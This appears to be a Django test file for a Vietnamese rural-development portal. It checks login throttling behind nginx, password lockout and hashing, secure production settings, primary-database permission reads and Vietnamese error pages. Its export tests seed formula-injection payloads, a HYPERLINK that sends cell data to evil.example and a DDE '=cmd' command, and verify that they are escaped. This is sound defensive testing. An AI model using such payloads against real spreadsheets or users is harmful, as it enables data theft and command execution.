"""Reliability and security, round two: login limiting behind nginx, wrong old passwords, formulas in admin
exports, permission checks never read from the replica, production secure by default, Vietnamese error pages."""

import csv
import io
import json
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import openpyxl
from axes.models import AccessAttempt
from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import make_password
from django.contrib.auth.models import Permission
from django.contrib.sessions.models import Session
from django.db import DEFAULT_DB_ALIAS
from django.test import Client, RequestFactory, SimpleTestCase, TestCase, override_settings
from django.urls import reverse

from areas.models import Area, Role
from criteria import services as criteria_services
from criteria.models import CriteriaSet, Indicator, IndicatorResult
from ntm_portal import replica
from ntm_portal import settings as project_settings
from plans import services as plan_services
from plans.models import FundingSource, PlanItem
from tests.personas import PASSWORD, build_world

ROOT = Path(__file__).resolve().parent.parent
YEAR = 2024
NEW_PASSWORD = "mat-khau-moi-2025-rat-dai"


def settings_in_a_fresh_process(**environment):
    """The settings a server started with this environment would have (JSON of the names asked), or the error."""
    dropped = {"DATABASE_URL", "DEBUG", "DATABASE_REPLICA_URL", "DJANGO_ALLOW_ASYNC_UNSAFE", "SECURE_SSL"}
    env = {k: v for k, v in os.environ.items() if k not in dropped and not k.startswith("AXES_")}
    env.update(DJANGO_SETTINGS_MODULE="ntm_portal.settings", **environment)
    names = [
        "DEBUG",
        "SESSION_COOKIE_SECURE",
        "CSRF_COOKIE_SECURE",
        "SECURE_SSL_REDIRECT",
        "SECURE_HSTS_SECONDS",
        "SECURE_PROXY_SSL_HEADER",
        "AXES_IPWARE_PROXY_COUNT",
        "AXES_IPWARE_META_PRECEDENCE_ORDER",
    ]
    probe = (
        "import json; from django.conf import settings; "
        f"print(json.dumps({{n: getattr(settings, n) for n in {names!r}}}))"
    )
    return subprocess.run([sys.executable, "-c", probe], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)


PRODUCTION = {
    "ENVIRONMENT": "production",
    "SECRET_KEY": "k7#Qm2$vX9pL!r4Tz8@wB1nY6^cF3hJ0sD5gE-uA_iO+eR=tW" * 2,
    "ALLOWED_HOSTS": "ntm.bacgiang.gov.vn",
}


# ------------------------------------------------------------------ logins behind nginx


class ProxySettingsTests(SimpleTestCase):
    def test_one_proxy_reads_the_client_address_nginx_adds_to_x_forwarded_for(self):
        run = settings_in_a_fresh_process(AXES_PROXY_COUNT="1")
        self.assertEqual(run.returncode, 0, run.stderr)
        seen = json.loads(run.stdout)
        # django-ipware counts the proxies listed in the header; nginx itself is REMOTE_ADDR, not listed.
        self.assertEqual(seen["AXES_IPWARE_PROXY_COUNT"], 0)
        self.assertEqual(seen["AXES_IPWARE_META_PRECEDENCE_ORDER"], ["HTTP_X_FORWARDED_FOR", "REMOTE_ADDR"])

    def test_without_a_proxy_only_the_connection_address_counts(self):
        seen = json.loads(settings_in_a_fresh_process().stdout)
        self.assertIsNone(seen["AXES_IPWARE_PROXY_COUNT"])
        self.assertEqual(seen["AXES_IPWARE_META_PRECEDENCE_ORDER"], ["REMOTE_ADDR"])


# What AXES_PROXY_COUNT=1 gives (checked above in a fresh process).
BEHIND_NGINX = {
    "AXES_IPWARE_PROXY_COUNT": 0,
    "AXES_IPWARE_META_PRECEDENCE_ORDER": ["HTTP_X_FORWARDED_FOR", "REMOTE_ADDR"],
}


@override_settings(**BEHIND_NGINX)
class LoginLimitBehindNginxTests(TestCase):
    """Every request reaches gunicorn from nginx (127.0.0.1), with the browser's address in X-Forwarded-For."""

    OWNER = "203.0.113.5"
    ATTACKER = "198.51.100.7"

    @classmethod
    def setUpTestData(cls):
        cls.w = build_world()

    def attempt(self, password, forwarded_for):
        return self.client.post(
            reverse("login"),
            {"username": "canbo.anduong", "password": password},
            REMOTE_ADDR="127.0.0.1",
            HTTP_X_FORWARDED_FOR=forwarded_for,
        )

    def test_an_attacker_locked_out_does_not_lock_out_the_owner(self):
        for _ in range(5):
            locked = self.attempt("sai", self.ATTACKER)
        self.assertEqual(locked.status_code, 429)
        self.assertEqual(self.attempt(PASSWORD, self.ATTACKER).status_code, 429)
        response = self.attempt(PASSWORD, self.OWNER)
        self.assertRedirects(response, reverse("home"), fetch_redirect_response=False)

    def test_attempts_from_two_addresses_are_counted_separately(self):
        for _ in range(3):
            self.attempt("sai", self.ATTACKER)
            self.attempt("sai", self.OWNER)
        counts = dict(AccessAttempt.objects.values_list("ip_address", "failures_since_start"))
        self.assertEqual(counts, {self.ATTACKER: 3, self.OWNER: 3})

    def test_an_attacker_writing_the_owners_address_in_the_header_does_not_lock_the_owner(self):
        # nginx appends the real address: "what the client wrote, its real address".
        for _ in range(6):
            self.attempt("sai", f"{self.OWNER}, {self.ATTACKER}")
        response = self.attempt(PASSWORD, self.OWNER)
        self.assertRedirects(response, reverse("home"), fetch_redirect_response=False)


# ------------------------------------------------------------------ wrong old passwords


class PasswordChangeLimitTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.w = build_world()

    def change(self, old_password):
        return self.client.post(
            reverse("password_change"),
            {"old_password": old_password, "new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD},
            REMOTE_ADDR="10.0.0.7",
        )

    def test_four_wrong_old_passwords_then_the_right_one_changes_it(self):
        self.client.force_login(self.w.officer_an_duong)
        for _ in range(4):
            self.assertContains(self.change("sai"), "Mật khẩu cũ không chính xác")
        self.assertRedirects(self.change(PASSWORD), reverse("password_change_done"), fetch_redirect_response=False)

    def test_five_wrong_old_passwords_refuse_the_change_for_fifteen_minutes(self):
        self.client.force_login(self.w.officer_an_duong)
        for _ in range(4):
            self.change("sai")
        locked = self.change("sai")
        self.assertContains(locked, "Tạm khóa đổi mật khẩu", status_code=429)
        self.assertContains(locked, "thử lại sau 15 phút", status_code=429)
        self.assertEqual(self.change(PASSWORD).status_code, 429)
        self.w.officer_an_duong.refresh_from_db()
        self.assertTrue(self.w.officer_an_duong.check_password(PASSWORD))
        self.assertFalse(self.w.officer_an_duong.check_password(NEW_PASSWORD))


# ------------------------------------------------------------------ how passwords are stored


@override_settings(PASSWORD_HASHERS=project_settings.PASSWORD_HASHERS)
class PasswordStorageTests(TestCase):
    """The project's hashers (conftest.py swaps in a fast one for the rest of the suite)."""

    @classmethod
    def setUpTestData(cls):
        cls.w = build_world()

    def log_in(self, password):
        return self.client.post(reverse("login"), {"username": "canbo.anduong", "password": password})

    def stored(self):
        return get_user_model().objects.get(pk=self.w.officer_an_duong.pk).password

    def test_a_new_password_is_stored_with_argon2id_at_owasps_configuration(self):
        self.client.force_login(self.w.officer_an_duong)
        self.client.post(
            reverse("password_change"),
            {"old_password": PASSWORD, "new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD},
        )
        self.assertTrue(self.stored().startswith("argon2$argon2id$v=19$m=19456,t=2,p=1$"), self.stored())
        self.client.logout()
        self.assertRedirects(self.log_in(NEW_PASSWORD), reverse("home"), fetch_redirect_response=False)

    def test_a_password_stored_before_argon2id_still_logs_in_and_is_stored_again_with_it(self):
        user = self.w.officer_an_duong
        user.password = make_password(PASSWORD, hasher="pbkdf2_sha256")
        user.save(update_fields=["password"])
        self.assertContains(self.log_in("sai-mat-khau"), "Tên đăng nhập hoặc mật khẩu không đúng")
        self.assertTrue(self.stored().startswith("pbkdf2_sha256$"))
        self.assertRedirects(self.log_in(PASSWORD), reverse("home"), fetch_redirect_response=False)
        self.assertTrue(self.stored().startswith("argon2$argon2id$v=19$m=19456,t=2,p=1$"), self.stored())


# ------------------------------------------------------------------ formulas in admin exports


class AdminExportFormulaTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.w = w = build_world()
        plan = plan_services.create_plan(
            user=w.admin, area=w.an_duong, data=plan_services.PlanData(title="Kế hoạch xã 2024", year=YEAR)
        )
        plan_services.add_item(
            user=w.admin,
            plan=plan,
            data=plan_services.ItemData(title='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'),
            funding=[plan_services.FundingInput(FundingSource.objects.first(), "100")],
        )
        commune_set = CriteriaSet.objects.national().for_level("commune").covering(YEAR).get(tier="standard")
        criteria_services.record_indicator_result(
            area=w.an_duong,
            indicator=Indicator.objects.in_set(commune_set).get(code="17.8"),
            year=YEAR,
            user=w.officer_an_duong,
            value=Decimal("90.3"),
            note="=cmd|' /C calc'!A0",
        )

    def export(self, model_admin_url, file_format):
        """Exports every row through the admin's export page, every field ticked."""
        self.client.force_login(self.w.admin)
        url = reverse(model_admin_url)
        form = self.client.get(url).context["form"]
        data = {"resource": "0"}
        for name, field in form.fields.items():
            if name == "format":
                data[name] = next(str(i) for i, label in field.choices if str(label).lower() == file_format)
            elif field.__class__.__name__ == "BooleanField":
                data[name] = "on"
        response = self.client.post(url, data)
        self.assertEqual(response.status_code, 200, response.content[:500])
        return response.content

    def xlsx_cells(self, content):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet.iter_rows() for cell in row]

    def csv_values(self, content):
        return [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row]

    def test_plan_item_title_is_text_not_a_formula_in_xlsx(self):
        cells = self.xlsx_cells(self.export("admin:plans_planitem_export", "xlsx"))
        self.assertEqual([c.coordinate for c in cells if c.data_type == "f"], [])
        # The words as typed, kept as text.
        self.assertIn('=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', [c.value for c in cells])

    def test_numbers_stay_numbers_in_xlsx(self):
        cells = self.xlsx_cells(self.export("admin:criteria_indicatorresult_export", "xlsx"))
        self.assertIn(2024, [c.value for c in cells])
        self.assertNotIn("None", [c.value for c in cells])

    def test_plan_item_title_is_escaped_in_csv(self):
        values = self.csv_values(self.export("admin:plans_planitem_export", "csv"))
        self.assertFalse([v for v in values if v.startswith(("=", "+", "@"))], values)
        self.assertIn('\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', values)

    def test_indicator_result_note_is_text_not_a_formula_in_xlsx(self):
        cells = self.xlsx_cells(self.export("admin:criteria_indicatorresult_export", "xlsx"))
        self.assertEqual([c.coordinate for c in cells if c.data_type == "f"], [])
        self.assertIn("=cmd|' /C calc'!A0", [c.value for c in cells])

    def test_indicator_result_note_is_escaped_in_csv(self):
        values = self.csv_values(self.export("admin:criteria_indicatorresult_export", "csv"))
        self.assertFalse([v for v in values if v.startswith(("=", "+", "@"))], values)
        self.assertIn("'=cmd|' /C calc'!A0", values)


# ------------------------------------------------------------------ permission checks read from the primary


class ReplicaRouterTests(SimpleTestCase):
    """Inside a dashboard request (through ReplicaReadsMiddleware), where each model is read from."""

    def read_from(self, *models):
        router, seen = replica.ReplicaRouter(), {}

        def view(request):
            seen.update({model._meta.label: router.db_for_read(model) for model in models})

        replica.ReplicaReadsMiddleware(view)(RequestFactory().get("/bang-dieu-khien/5/"))
        return seen

    def test_dashboards_read_the_projects_data_from_the_replica(self):
        self.assertEqual(
            self.read_from(Area, IndicatorResult, PlanItem),
            {"areas.Area": "replica", "criteria.IndicatorResult": "replica", "plans.PlanItem": "replica"},
        )

    def test_roles_users_sessions_and_login_attempts_are_read_from_the_primary(self):
        # A role revoked on the primary must stop working at once, whatever the replication lag.
        seen = self.read_from(Role, get_user_model(), Permission, Session, AccessAttempt)
        self.assertEqual(set(seen.values()), {DEFAULT_DB_ALIAS}, seen)


# ------------------------------------------------------------------ production secure by default


class ProductionDefaultsTests(SimpleTestCase):
    def test_production_alone_turns_on_https_everything(self):
        run = settings_in_a_fresh_process(**PRODUCTION)
        self.assertEqual(run.returncode, 0, run.stderr)
        seen = json.loads(run.stdout)
        self.assertTrue(seen["SESSION_COOKIE_SECURE"])
        self.assertTrue(seen["CSRF_COOKIE_SECURE"])
        self.assertTrue(seen["SECURE_SSL_REDIRECT"])
        self.assertEqual(seen["SECURE_HSTS_SECONDS"], 31536000)
        self.assertEqual(seen["SECURE_PROXY_SSL_HEADER"], ["HTTP_X_FORWARDED_PROTO", "https"])
        self.assertFalse(seen["DEBUG"])

    def test_a_plain_http_intranet_says_so_with_secure_ssl_false(self):
        seen = json.loads(settings_in_a_fresh_process(**PRODUCTION, SECURE_SSL="False").stdout)
        self.assertFalse(seen["SESSION_COOKIE_SECURE"])
        self.assertFalse(seen["SECURE_SSL_REDIRECT"])
        self.assertEqual(seen["SECURE_HSTS_SECONDS"], 0)

    def test_production_refuses_debug(self):
        run = settings_in_a_fresh_process(**PRODUCTION, DEBUG="True")
        self.assertNotEqual(run.returncode, 0)
        self.assertIn("ImproperlyConfigured", run.stderr)
        self.assertIn("DEBUG=True is refused with ENVIRONMENT=production", run.stderr)

    def test_development_stays_on_plain_http(self):
        seen = json.loads(settings_in_a_fresh_process(ENVIRONMENT="development").stdout)
        self.assertFalse(seen["SESSION_COOKIE_SECURE"])
        self.assertFalse(seen["SECURE_SSL_REDIRECT"])


# ------------------------------------------------------------------ error pages in Vietnamese


@override_settings(DEBUG=False)
class ErrorPageTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.w = build_world()

    def assert_vietnamese_page(self, response, status, heading):
        self.assertContains(response, heading, status_code=status)
        self.assertContains(response, '<a href="/">Về trang chủ</a>', status_code=status, html=True)
        self.assertContains(response, "NTM Portal", status_code=status)
        self.assertNotContains(response, "Not Found", status_code=status)

    def test_page_not_found(self):
        self.client.force_login(self.w.officer_an_duong)
        response = self.client.get("/khong-co-trang-nay/")
        self.assert_vietnamese_page(response, 404, "Không tìm thấy trang")
        # In the portal's layout, with who is logged in.
        self.assertContains(response, "Nguyễn Thị Lan", status_code=404)

    def test_an_area_outside_the_users_reach(self):
        self.client.force_login(self.w.officer_an_duong)
        response = self.client.get(reverse("area_detail", kwargs={"area_id": self.w.hung_my.pk}))
        self.assert_vietnamese_page(response, 404, "Không tìm thấy trang")

    def test_server_error(self):
        from ntm_portal import urls

        def broken(request):
            raise RuntimeError("hỏng")

        self.client.raise_request_exception = False
        with self.settings(ROOT_URLCONF=type("Conf", (), {"urlpatterns": [*urls.urlpatterns, _path("hong/", broken)]})):
            response = self.client.get("/hong/")
        self.assert_vietnamese_page(response, 500, "Lỗi máy chủ")
        self.assertNotContains(response, "Server Error", status_code=500)

    def test_server_error_page_needs_no_request_nor_database(self):
        from django.views.defaults import server_error

        with self.assertNumQueries(0):
            response = server_error(RequestFactory().get("/"))
        self.assert_vietnamese_page(response, 500, "Lỗi máy chủ")

    def test_bad_request(self):
        response = self.client.get("/", HTTP_HOST="khong-hop-le.example")
        self.assert_vietnamese_page(response, 400, "Yêu cầu không hợp lệ")

    def test_permission_denied(self):
        from django.core.exceptions import PermissionDenied

        def refused(request):
            raise PermissionDenied

        from ntm_portal import urls

        with self.settings(ROOT_URLCONF=type("Conf", (), {"urlpatterns": [*urls.urlpatterns, _path("cam/", refused)]})):
            response = self.client.get("/cam/")
        self.assert_vietnamese_page(response, 403, "Không có quyền truy cập")

    def test_form_without_csrf_token(self):
        client = Client(enforce_csrf_checks=True)
        client.force_login(self.w.officer_an_duong)
        response = client.post(reverse("password_change"), {"old_password": PASSWORD})
        self.assert_vietnamese_page(response, 403, "Biểu mẫu đã hết hạn")
        self.assertContains(response, "chưa có gì được lưu", status_code=403)
        self.assertNotContains(response, "CSRF verification failed", status_code=403)


def _path(route, view):
    from django.urls import path

    return path(route, view)
